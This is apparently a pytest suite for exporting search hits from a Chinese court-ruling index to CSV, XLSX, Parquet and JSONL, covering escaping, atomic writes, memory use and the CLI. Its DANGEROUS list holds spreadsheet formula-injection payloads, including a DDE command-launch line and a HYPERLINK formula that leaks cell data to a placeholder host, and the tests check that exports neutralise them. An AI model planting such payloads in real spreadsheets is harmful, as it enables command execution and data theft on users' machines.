"""Exports: every hit once, nothing a formula, a file that is whole or not there, and memory that stays flat."""

from __future__ import annotations

import csv
import datetime
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import libreoffice
import openpyxl
import pytest
from generated_documents import RULES, generated_document, report_of, seeded
from pyarrow import parquet
from test_command import zhihe

from checker.verdict import MODE_NAMES
from corpus.document import document_of
from index.columns import COLUMNS, row
from index.engine import Sort
from index.entry import Entry, RuleVerdict
from index.exportfile import FORMATS, format_of, write_export
from index.home import LibraryError
from index.library import Library
from index.shown import Shown
from index.spreadsheet import LONGEST, write_xlsx

ROOT = Path(__file__).parent.parent
# What a spreadsheet would run, fetch, or turn into something else, were it not text.
DANGEROUS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    "{=1+1}",
    "http://example.invalid",
    "0012",
    "1e5",
    "2022-03-01",
    "'=1",
)


def _entries() -> list[Entry]:
    entries = [
        Entry(id=f"{n:064x}", paths=(f"/文书/{n}.txt",), title=title, match_text="")
        for n, title in enumerate(DANGEROUS)
    ]
    entries.append(
        Entry(
            id="f" * 64,
            paths=("/甲.txt", b"/\xd6.txt".decode("utf-8", "surrogateescape")),
            title="执行通知书\n第二行 \ud800",
            match_text="",
            type="execution_notice",
            court="芜湖市镜湖区人民法院",
            case_numbers=("（2022）皖0202执1号", "（2021）皖0202民初2号"),
            date="2022-03-01",
            parties=(("申请执行人", "张某甲"), ("被执行人", "某某公司")),
            officers=("王某某",),
            amounts=(1_00, 12_345_678_901),
            statutes=("民事诉讼法第264条",),
            mode="published",
            shown=Shown(
                name="张某甲与某某公司买卖合同纠纷",
                cause="买卖合同纠纷",
                procedure="首次执行",
                province="安徽省",
                city="芜湖市",
                firms=("某某律师事务所",),
                claim=1_00,
            ),
            verdicts=(
                RuleVerdict("a/b", "fail", "error"),
                RuleVerdict("a/c", "fail", "warning"),
                RuleVerdict("a/d", "undecided", "error"),
                RuleVerdict("a/e", "pass", "info"),
            ),
        )
    )
    return entries


def _csv(file: Path) -> list[list[str]]:
    return list(csv.reader(file.read_text("utf-8-sig").splitlines(keepends=True)))


def _xlsx(file: Path) -> list[list[object]]:
    return [
        list(row) for row in openpyxl.load_workbook(file, read_only=True).active.iter_rows(values_only=True)
    ]


def test_a_csv_has_every_column_and_no_formula(tmp_path: Path) -> None:
    file = tmp_path / "表.csv"
    assert write_export(file, "csv", _entries()) == len(_entries())
    rows = _csv(file)
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == len(_entries()) + 1
    assert not [
        cell for row in rows for cell in row if cell.lstrip(" ").startswith(("=", "+", "-", "@", "＝"))
    ]
    assert dict(zip(rows[0], rows[-1], strict=True)) == {
        "编号": "f" * 64,
        "标题": "执行通知书\n第二行 \ufffd",
        "案件名称": "张某甲与某某公司买卖合同纠纷",
        "案由": "买卖合同纠纷",
        "类型": "执行通知书",
        "法院": "芜湖市镜湖区人民法院",
        "法院层级": "基层",
        "省份": "安徽省",
        "城市": "芜湖市",
        "案号": "（2022）皖0202执1号；（2021）皖0202民初2号",
        "审判程序": "首次执行",
        "日期": "2022-03-01",
        "当事人": "申请执行人：张某甲；被执行人：某某公司",
        "审判人员": "王某某",
        "律师": "",
        "律所": "某某律师事务所",
        "法律依据": "",
        "引用": "民事诉讼法第264条",
        "标的额（元）": "1.00",
        "最大金额（元）": "123456789.01",
        "模式": "已公开",
        "错误数": "1",
        "提醒数": "1",
        "提示数": "0",
        "不符合": "a/b；a/c",
        "待定": "a/d",
        "符合": "a/e",
        "路径": "/甲.txt；/\ufffd.txt",
    }


def test_a_workbook_holds_texts_as_texts_and_days_and_sums_as_such(tmp_path: Path) -> None:
    file = tmp_path / "表.xlsx"
    assert write_export(file, "xlsx", _entries()) == len(_entries())
    sheet = openpyxl.load_workbook(file).active
    assert tuple(cell.value for cell in sheet[1]) == COLUMNS
    titles = [sheet.cell(row, 2) for row in range(2, 2 + len(DANGEROUS))]
    assert [cell.value for cell in titles] == list(DANGEROUS)
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)} == {
        "s"
    }
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)
    last = dict(zip(COLUMNS, (cell.value for cell in sheet[sheet.max_row]), strict=True))
    assert last["日期"] == datetime.datetime(2022, 3, 1)
    assert last["最大金额（元）"] == pytest.approx(123456789.01)
    assert (last["错误数"], last["提醒数"], last["提示数"]) == (1, 1, 0)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:AB{len(_entries()) + 1}"


def test_a_full_sheet_goes_on_in_a_further_one_with_its_own_heading(tmp_path: Path) -> None:
    assert write_xlsx(tmp_path / "表.xlsx", _entries(), {}, rows=5) == len(_entries())
    book = openpyxl.load_workbook(tmp_path / "表.xlsx")
    assert book.sheetnames == ["检索结果", "检索结果2", "检索结果3", "检索结果4"]
    ids = [row[0] for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert ids == [entry.id for entry in _entries()]
    assert {sheet.cell(1, 1).value for sheet in book} == {"编号"}


def test_a_cell_longer_than_a_spreadsheet_takes_says_so(tmp_path: Path) -> None:
    long = Entry(id="a" * 64, paths=("甲" * (LONGEST + 1),), title="𠀀" * (LONGEST // 2 + 1), match_text="")
    write_export(tmp_path / "表.xlsx", "xlsx", [long])
    sheet = openpyxl.load_workbook(tmp_path / "表.xlsx").active
    for cell in (sheet.cell(2, 2).value, sheet.cell(2, len(COLUMNS)).value):
        assert len(cell.encode("utf-16-le")) // 2 <= LONGEST
        assert cell.endswith("……（超出表格的上限，以下略去；全文用 JSONL 输出）")


def test_parquet_keeps_lists_sums_and_days(tmp_path: Path) -> None:
    file = tmp_path / "表.parquet"
    assert write_export(file, "parquet", _entries()) == len(_entries())
    table = parquet.read_table(file)
    assert tuple(table.column_names) == COLUMNS
    last = table.to_pylist()[-1]
    assert last["案号"] == ["（2022）皖0202执1号", "（2021）皖0202民初2号"]
    assert last["最大金额（元）"] == Decimal("123456789.01")
    assert last["日期"] == datetime.date(2022, 3, 1)
    assert [row["标题"] for row in table.to_pylist()][: len(DANGEROUS)] == list(DANGEROUS)


def test_json_lines_hold_what_a_hit_holds_and_more(tmp_path: Path) -> None:
    file = tmp_path / "表.jsonl"
    assert write_export(file, "jsonl", _entries()) == len(_entries())
    last = json.loads(file.read_text("utf-8").splitlines()[-1])
    assert last["case_numbers"] == ["（2022）皖0202执1号", "（2021）皖0202民初2号"]
    assert last["amounts_fen"] == [1_00, 12_345_678_901]
    assert (last["fail"], last["undecided"], last["pass"]) == (["a/b", "a/c"], ["a/d"], ["a/e"])


# By column of a table, the keys of JSON lines and what of the table stands there.
KEYS: dict[str, tuple[str, Callable[[Any], Any]]] = {
    "编号": ("id", str),
    "标题": ("title", str),
    "案件名称": ("name", lambda value: value),
    "案由": ("cause", lambda value: value),
    "类型": ("type_name", lambda value: value),
    "法院": ("court", lambda value: value),
    "法院层级": ("court_level", lambda value: value),
    "省份": ("province", lambda value: value),
    "城市": ("city", lambda value: value),
    "案号": ("case_numbers", list),
    "审判程序": ("procedure", lambda value: value),
    "日期": ("date", lambda value: value and value.isoformat()),
    "当事人": (
        "parties",
        lambda value: [dict(zip(("role", "name"), each.split("：", 1), strict=True)) for each in value],
    ),
    "审判人员": ("officers", list),
    "律师": ("lawyers", list),
    "律所": ("firms", list),
    "法律依据": ("basis", list),
    "引用": ("statutes", list),
    "标的额（元）": ("claim_fen", lambda value: None if value is None else int(value * 100)),
    "最大金额（元）": ("largest_fen", lambda value: None if value is None else int(value * 100)),
    "模式": ("mode", lambda value: next((mode for mode, name in MODE_NAMES.items() if name == value), value)),
    "错误数": ("errors", int),
    "提醒数": ("warnings", int),
    "提示数": ("infos", int),
    "不符合": ("fail", list),
    "待定": ("undecided", list),
    "符合": ("pass", list),
    "路径": ("paths", list),
}


def test_json_lines_hold_all_that_a_table_does(tmp_path: Path) -> None:
    """And the page on the query language names each key in the order of the columns."""
    assert list(KEYS) == list(COLUMNS)
    file = tmp_path / "表.jsonl"
    write_export(file, "jsonl", _entries())
    for entry, line in zip(_entries(), file.read_text("utf-8").splitlines(), strict=True):
        given = json.loads(line)
        for (key, of), value in zip(KEYS.values(), row(entry), strict=True):
            assert given[key] == of(value), key
    page = (ROOT / "docs" / "zh" / "检索语法.md").read_text("utf-8")
    told = re.findall("`([a-z_]+)`", page[page.index("键名依次是") :])
    keys = [key for key, _ in KEYS.values()]
    assert [key for key in dict.fromkeys(told) if key in keys] == keys
    assert set(given) <= set(told)


@pytest.mark.parametrize("kind", FORMATS)
def test_an_export_of_nothing_is_a_whole_file(tmp_path: Path, kind: str) -> None:
    file = tmp_path / f"空.{kind}"
    assert write_export(file, kind, []) == 0
    if kind == "csv":
        assert _csv(file) == [list(COLUMNS)]
    elif kind == "xlsx":
        assert _xlsx(file) == [list(COLUMNS)]
    elif kind == "parquet":
        assert (parquet.read_table(file).num_rows, parquet.read_table(file).column_names) == (
            0,
            list(COLUMNS),
        )
    else:
        assert file.read_bytes() == b""


@libreoffice.needed
def test_libreoffice_reads_both_tables_alike_and_runs_nothing(tmp_path: Path) -> None:
    for kind in ("csv", "xlsx"):
        (tmp_path / kind).mkdir()
        file = tmp_path / kind / "表.x"
        write_export(file.with_suffix(f".{kind}"), kind, _entries())
        to = tmp_path / f"from-{kind}"
        to.mkdir()
        target = "xlsx" if kind == "csv" else "csv:Text - txt - csv (StarCalc):44,34,76"
        # Its window sees the byte order mark and offers UTF-8; without a window it must be told.
        reading = "CSV:44,34,76,1" if kind == "csv" else None
        libreoffice.convert([file.with_suffix(f".{kind}")], target, to, reading)
    book = openpyxl.load_workbook(tmp_path / "from-csv" / "表.xlsx")
    rows = list(book.active.iter_rows())
    assert tuple(cell.value for cell in rows[0]) == COLUMNS
    assert len(rows) == len(_entries()) + 1
    assert not [cell.value for row in rows for cell in row if cell.data_type == "f"]
    shown = _csv(tmp_path / "from-xlsx" / "表.csv")
    assert tuple(shown[0]) == COLUMNS
    assert [row[1] for row in shown[1 : 1 + len(DANGEROUS)]] == list(DANGEROUS)
    assert shown[-1][COLUMNS.index("日期")] == "2022-03-01"


# --- the file


def test_the_format_is_asked_for_or_that_of_the_ending() -> None:
    assert format_of(Path("甲.XLSX")) == "xlsx"
    assert format_of(Path("甲"), "csv") == "csv"
    for name in ("甲", "甲.txt", "甲.json"):
        with pytest.raises(LibraryError, match=r"\.csv、\.jsonl、\.xlsx、\.parquet"):
            format_of(Path(name))


@pytest.mark.parametrize("kind", FORMATS)
def test_what_is_there_is_kept_unless_it_may_be_replaced(tmp_path: Path, kind: str) -> None:
    file = tmp_path / f"表.{kind}"
    file.write_bytes(b"before")
    with pytest.raises(LibraryError, match="已经存在，没有写"):
        write_export(file, kind, _entries())
    assert file.read_bytes() == b"before"
    write_export(file, kind, _entries(), overwrite=True)
    assert file.read_bytes() != b"before"
    assert [path.name for path in tmp_path.iterdir()] == [file.name]


@pytest.mark.parametrize("kind", FORMATS)
def test_what_breaks_off_leaves_nothing_behind(tmp_path: Path, kind: str) -> None:
    def broken() -> Iterator[Entry]:
        yield from _entries()
        raise OSError(28, "No space left on device")

    file = tmp_path / f"表.{kind}"
    with pytest.raises(LibraryError, match="没有写成：磁盘空间已满"):
        write_export(file, kind, broken())
    file.write_bytes(b"before")
    with pytest.raises(LibraryError, match="没有写成"):
        write_export(file, kind, broken(), overwrite=True)
    assert file.read_bytes() == b"before"
    assert [path.name for path in tmp_path.iterdir()] == [file.name]


def test_a_file_that_appears_meanwhile_is_kept(tmp_path: Path) -> None:
    file = tmp_path / "表.csv"

    def entries() -> Iterator[Entry]:
        yield from _entries()
        file.write_bytes(b"somebody else's")

    with pytest.raises(LibraryError, match="在输出途中出现了"):
        write_export(file, "csv", entries())
    assert file.read_bytes() == b"somebody else's"


def test_a_folder_that_is_not_there_is_said(tmp_path: Path) -> None:
    with pytest.raises(LibraryError, match="没有写成：路径不存在"):
        write_export(tmp_path / "没有" / "表.csv", "csv", [])
    with pytest.raises(LibraryError, match="是文件夹"):
        write_export(tmp_path, "csv", [])


@pytest.mark.skipif(os.name != "posix", reason="file modes are a matter of POSIX")
def test_the_file_is_as_open_as_any_other_of_its_owner(tmp_path: Path) -> None:
    (tmp_path / "plain").write_text("")
    for kind in FORMATS:
        write_export(tmp_path / f"表.{kind}", kind, _entries())
        assert (tmp_path / f"表.{kind}").stat().st_mode == (tmp_path / "plain").stat().st_mode


# --- memory


_FROM_A_LIBRARY = """
with Library.open(Path(sys.argv[3])) as library:
    count = write_export(Path(sys.argv[1]), sys.argv[2], library.iterate("*"))
"""
_MADE_UP = """
def entry(n):
    verdicts = tuple(RuleVerdict(f"spc-2021-322/art{m}", "fail", "error") for m in range(8))
    return Entry(f"{n:064x}", (f"/{n}.txt",), f"第{n}份", "", court=f"第{n}人民法院", date="2022-03-01", verdicts=verdicts)
count = write_export(Path(sys.argv[1]), sys.argv[2], map(entry, range(int(sys.argv[3]))))
"""
_MEASURED = """
import re, sys
from pathlib import Path
from index.entry import Entry, RuleVerdict
from index.exportfile import write_export
from index.library import Library
{}
# Not ru_maxrss: a child begins with that of its parent.
print(count, re.search("VmHWM:\\s+([0-9]+)", Path("/proc/self/status").read_text())[1])
"""
_measurable = pytest.mark.skipif(
    sys.platform != "linux", reason="the most memory that a process ever held is read from /proc"
)


def _peak(program: str, *arguments: object) -> tuple[int, int]:
    """How many documents an export holds, and the most memory that a process of its own took for it, in MiB."""
    made = subprocess.run(
        [sys.executable, "-c", _MEASURED.format(program), *map(str, arguments)],
        cwd=ROOT,
        check=True,
        capture_output=True,
        text=True,
    )
    count, kibibytes = map(int, made.stdout.split())
    return count, kibibytes // 1024


@_measurable
@pytest.mark.parametrize("kind", FORMATS)
def test_ten_times_as_many_rows_need_no_more_memory(tmp_path: Path, kind: str) -> None:
    few = _peak(_MADE_UP, tmp_path / f"few.{kind}", kind, 2_500)
    many = _peak(_MADE_UP, tmp_path / f"many.{kind}", kind, 25_000)
    print(kind, few, many)
    assert (few[0], many[0]) == (2_500, 25_000)
    assert many[1] - few[1] <= 12


def _fill(home: Path, count: int) -> None:
    with Library.open(home) as library, library.writer() as writer:
        for n in range(count):
            document = document_of(f"第{n}份。", f"/文书/{n}.txt")
            report = {
                **report_of(document, f"/文书/{n}.txt"),
                "date": f"20{n % 24:02}-01-{n % 28 + 1:02}",
                "results": [{"rule": rule, "verdict": "fail", "severity": "error"} for rule in RULES],
            }
            writer.add(document, report, "r1")


@pytest.mark.soak
@_measurable
def test_memory_stays_flat_over_a_hundred_thousand_hits(tmp_path: Path) -> None:
    counts = (20_000, 100_000)
    for count in counts:
        _fill(tmp_path / str(count), count)
    for kind in FORMATS:
        few, many = (
            _peak(_FROM_A_LIBRARY, tmp_path / f"{count}.{kind}", kind, tmp_path / str(count))
            for count in counts
        )
        print(kind, few, many)
        assert (few[0], many[0]) == counts
        assert many[1] - few[1] <= 24


# --- the command


def _rulings(folder: Path) -> None:
    """Rulings that end the enforcement for now: court, number, year in words, with the clause or without."""
    clause = "申请执行人发现被执行人有可供执行财产的，可以再次申请执行，不受申请执行时效期间的限制。"
    rows: Iterable[tuple[str, str, str, str, str]] = (
        ("甲", "芜湖市镜湖区人民法院", "2022", "二〇二二年三月一日", ""),
        ("乙", "安徽省芜湖市中级人民法院", "2022", "二〇二二年十二月三十一日", ""),
        ("丙", "芜湖市弋江区人民法院", "2022", "二〇二二年六月一日", clause),
        ("丁", "芜湖市弋江区人民法院", "2023", "二〇二三年一月一日", ""),
        ("戊", "合肥市包河区人民法院", "2022", "二〇二二年五月一日", ""),
    )
    for name, court, year, day, told in rows:
        (folder / f"{name}.txt").write_text(
            f"{court}\n执行裁定书\n（{year}）皖0202执101号之一\n申请执行人：张某甲，男。\n被执行人：李某乙，男。\n"
            "本院在执行张某甲与李某乙买卖合同纠纷一案中，经网络查控未发现可供执行的财产。"
            "依照《最高人民法院关于适用〈中华人民共和国民事诉讼法〉的解释》第五百一十七条的规定，裁定如下：\n"
            f"终结本次执行程序。\n{told}\n本裁定送达后立即生效。\n审判员 王某某\n{day}\n书记员 赵某某\n",
            "utf-8",
        )
    (folder / "己.txt").write_text(
        "芜湖市镜湖区人民法院\n执行通知书\n（2022）皖0202执5号\n李某乙：\n请履行。\n二〇二二年三月一日\n",
        "utf-8",
    )


def test_the_task_of_a_user_in_one_command(tmp_path: Path) -> None:
    """All 终本 rulings of Wuhu's courts in 2022 that lack the clause on restoration, newest first, as XLSX."""
    home, folder = tmp_path / "库", tmp_path / "文书"
    folder.mkdir()
    _rulings(folder)
    zhihe("index", str(folder), "--fail-on", "never", home=home)
    file = tmp_path / "终本.xlsx"
    query = "类型:终本裁定 法院:芜湖 日期:2022 缺:art06-rights"
    told = zhihe("search", query, "--sort", "newest", "--export", str(file), home=home)
    assert told.stdout == f"已写入 {file}：2 份\n"
    rows = _xlsx(file)
    found = [dict(zip(map(str, rows[0]), row, strict=True)) for row in rows[1:]]
    assert [(row["法院"], row["日期"]) for row in found] == [
        ("安徽省芜湖市中级人民法院", datetime.datetime(2022, 12, 31)),
        ("芜湖市镜湖区人民法院", datetime.datetime(2022, 3, 1)),
    ]
    assert all("spc-2016-373/art06-rights" in str(row["不符合"]) for row in found)


def test_the_command_writes_every_format_and_refuses_what_it_would_have_to_guess(tmp_path: Path) -> None:
    home = tmp_path / "库"
    with Library.open(home) as library, library.writer() as writer:
        rnd = seeded(6)
        for n in range(30):
            document = generated_document(rnd, f"/{n}.txt")
            writer.add(document, report_of(document, f"/{n}.txt"), "r1")
    with Library.open(home) as library:
        newest = [entry.id for entry in library.iterate("*", Sort.NEWEST)]
    for kind in FORMATS:
        told = zhihe("search", "*", "--export", str(tmp_path / f"表.{kind}"), home=home)
        assert told.stdout.endswith("：30 份\n")
    assert [row[0] for row in _csv(tmp_path / "表.csv")[1:]] == newest
    assert [row[0] for row in _xlsx(tmp_path / "表.xlsx")[1:]] == newest
    assert parquet.read_table(tmp_path / "表.parquet").column("编号").to_pylist() == newest
    lines = zhihe(
        "search", "*", "--all", "--format", "jsonl", "--sort", "newest", home=home
    ).stdout.splitlines()
    assert [json.loads(line)["id"] for line in lines] == newest
    for words, said in (
        (["*", "--export", str(tmp_path / "表.csv")], "已经存在"),
        (["*", "--export", str(tmp_path / "表.txt")], "不知道"),
        (["*", "--format", "xlsx"], "--export"),
        (["*", "--overwrite"], "--export"),
        (["*", "--export", str(tmp_path / "b.csv"), "--format", "json"], "--format json 只用于屏幕上的输出"),
        (["*", "--export", str(tmp_path / "b.csv"), "--format", "xlsx"], "以 .csv 结尾，--format 却是 xlsx"),
        (["*", "--export", str(tmp_path / "b.csv"), "--page", "2"], "输出全部结果，不能和 --page"),
        (["*", "--all", "--page", "2"], "输出全部结果，不能和 --page"),
        (["*", "--all", "--through", "2"], "输出全部结果，不能和 --page"),
        (["*", "--recent", "--sort", "newest"], "--recent 只用于按相关度排序"),
        (["*", "--recent", "--export", str(tmp_path / "b.csv")], "加 --sort relevance"),
        ([""], "请写出检索式"),
        ([" ", ""], "请写出检索式"),
        (["法元:x", "--export", str(tmp_path / "b.csv")], "没有叫“法元”"),
        ([], "请写出检索式"),
    ):
        refused = zhihe("search", *words, home=home)
        assert refused.returncode == 2
        assert said in refused.stderr
    assert not (tmp_path / "b.csv").exists()
    zhihe("search", "*", "--export", str(tmp_path / "表.csv"), "--overwrite", home=home)
